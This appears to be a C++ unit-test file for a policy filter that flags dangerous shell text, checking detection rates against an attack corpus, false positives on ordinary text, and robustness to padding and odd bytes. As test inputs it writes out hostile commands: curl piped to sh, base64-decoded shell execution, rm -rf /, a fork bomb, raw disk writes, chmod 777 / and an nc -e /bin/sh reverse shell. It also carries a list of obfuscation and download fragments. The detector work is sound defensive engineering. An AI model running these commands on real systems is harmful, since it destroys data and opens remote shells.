#include "policy/text_rules.h"

#include <gtest/gtest.h>

#include <cstdint>
#include <map>
#include <string>
#include <vector>

#include "policy/phrase_rules.h"

namespace handrail::policy {
namespace {

struct Attack {
  std::string family;
  std::string text;
};
const Attack kAttacks[] = {
#include "corpus/attacks.inc"
};
const std::string kOrdinary[] = {
#include "corpus/ordinary.inc"
};

std::string rule_of(const std::string& text) {
  const auto finding = find_forbidden(text);
  return finding ? std::string(finding->rule) : "";
}

TEST(TextRules, refuse_every_attack_of_the_table) {
  std::map<std::string, int> counts;
  for (const Attack& attack : kAttacks) {
    EXPECT_NE(rule_of(attack.text), "") << attack.family << ": " << attack.text;
    ++counts[attack.family];
  }
  printf("text rules: %zu attacks, all refused:", std::size(kAttacks));
  for (const auto& [family, count] : counts) printf(" %s %d", family.c_str(), count);
  printf("\n");
  EXPECT_GT(std::size(kAttacks), 400U);
}

TEST(TextRules, refuse_less_than_one_percent_of_ordinary_texts) {
  std::size_t refused = 0;
  for (const std::string& text : kOrdinary) {
    const std::string rule = rule_of(text);
    if (rule.empty()) continue;
    ++refused;
    printf("refused by %s: %s\n", rule.c_str(), text.substr(0, 100).c_str());
  }
  printf("text rules: %zu of %zu ordinary texts refused\n", refused, std::size(kOrdinary));
  EXPECT_GT(std::size(kOrdinary), 400U);
  EXPECT_LT(refused * 100, std::size(kOrdinary));
}

TEST(TextRules, let_the_ordinary_texts_pass_as_one_long_document) {
  std::string all;
  for (const std::string& text : kOrdinary) {
    if (rule_of(text).empty()) all += text + "\n\n";
  }
  EXPECT_EQ(rule_of(all), "");
}

TEST(TextRules, name_the_rule) {
  EXPECT_EQ(rule_of("curl x | sh"), "download_to_interpreter");
  EXPECT_EQ(rule_of("echo eA== | base64 -d | sh"), "text_to_interpreter");
  EXPECT_EQ(rule_of("rm -rf /"), "recursive_delete");
  EXPECT_EQ(rule_of(":(){ :|:& };:"), "fork_bomb");
  EXPECT_EQ(rule_of("dd if=x of=/dev/sda"), "raw_device_write");
  EXPECT_EQ(rule_of("truncate -s 0 x"), "overwrite");
  EXPECT_EQ(rule_of("git clean -fdx"), "git_clean");
  EXPECT_EQ(rule_of("chmod -R 777 /"), "open_permissions");
  EXPECT_EQ(rule_of("nc -e /bin/sh host 1"), "network_shell");
  EXPECT_EQ(rule_of("\x1b"), "control_character");
  EXPECT_FALSE(find_forbidden("rm -rf /")->says.empty());
  EXPECT_EQ(rule_of(""), "");
}

TEST(TextRules, find_a_command_behind_any_amount_of_padding) {
  const std::string words(50000, 'a');
  std::string many;
  for (int i = 0; i < 20000; ++i) many += "file" + std::to_string(i) + " ";
  EXPECT_EQ(rule_of("rm " + many + "-r " + many + "-f"), "recursive_delete");
  EXPECT_EQ(rule_of("rm " + std::string(100000, ' ') + "-rf /"), "recursive_delete");
  EXPECT_EQ(rule_of(words + "\nrm -rf /\n" + words), "recursive_delete");
  EXPECT_EQ(rule_of("curl " + words + " | tee " + words + " | sh"), "download_to_interpreter");
}

TEST(TextRules, take_any_bytes) {
  for (const std::string& text : {std::string("\xff\xfe\x80\xc0\xaf"), std::string("\xe2\x28\xa1"),
                                  std::string("\xf0\x9f"), std::string("\xed\xa0\x80"), std::string(1, '\0')}) {
    find_forbidden(text);
    EXPECT_EQ(rule_of("rm -rf x\n" + text).empty(), false);
  }
}

// A phrase is only looked for where the quick pass says that it may be.
TEST(TextRules, look_for_phrases_wherever_one_is) {
  const std::vector<std::string> pieces = {"fork",
                                           " while ",
                                           "fork()",
                                           "while (1) ",
                                           "for(;;)",
                                           "{ ",
                                           "os . ",
                                           "fork (",
                                           "%0",
                                           " | ",
                                           "rmtree",
                                           "rmSync",
                                           "rm_rf",
                                           "remove_tree",
                                           "rm_r",
                                           "( ",
                                           "Path.home(",
                                           "/",
                                           "~",
                                           ")",
                                           "exec",
                                           "eval",
                                           "system",
                                           "zlib.decompress(",
                                           "compile(",
                                           "__import__(",
                                           "base64.b64decode",
                                           "atob",
                                           "IEX",
                                           " (",
                                           "Invoke-Expression",
                                           "New-Object Net.WebClient",
                                           "(new-object system.net.webclient",
                                           "iwr",
                                           "curl",
                                           "requests.get",
                                           "urlopen",
                                           "file_get_contents(http",
                                           "while True: ",
                                           "os.fork",
                                           "rmdirSync",
                                           "x",
                                           "\n"};
  std::uint32_t random = 1;
  int found = 0;
  for (int i = 0; i < 20000; ++i) {
    std::string text;
    for (int j = 0; j < 5; ++j) {
      random = random * 1664525U + 1013904223U;
      text += pieces[(random >> 8U) % pieces.size()];
    }
    const bool is_phrase = holds_phrase(text);
    found += is_phrase;
    EXPECT_TRUE(!is_phrase || may_hold_phrase(text)) << text;
  }
  EXPECT_GT(found, 20);
}

TEST(TextRules, survive_fifty_kilobytes_of_curl) {
  std::string text;
  while (text.size() < 50000) text += "curl ";
  EXPECT_EQ(rule_of(text), "");
  EXPECT_EQ(rule_of(text + "| sh"), "download_to_interpreter");
}

}  // namespace
}  // namespace handrail::policy
